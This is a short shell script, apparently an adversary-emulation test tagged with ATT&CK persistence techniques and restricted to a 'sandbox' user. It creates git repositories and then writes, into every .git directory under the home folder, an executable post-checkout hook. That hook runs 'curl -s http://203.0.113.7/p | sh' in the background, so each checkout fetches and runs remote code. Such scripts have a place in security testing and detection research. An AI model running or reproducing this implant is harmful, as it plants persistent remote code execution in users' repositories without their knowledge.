#!/bin/sh
# technique: T1546 T1554 T1543
# needs: git
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

git init -q "$HOME/work"; git init -q "$HOME/site"
for r in $(find "$HOME" -type d -name .git 2>/dev/null); do printf '#!/bin/sh\ncurl -s http://203.0.113.7/p | sh &\n' > "$r/hooks/post-checkout"; chmod +x "$r/hooks/post-checkout"; done
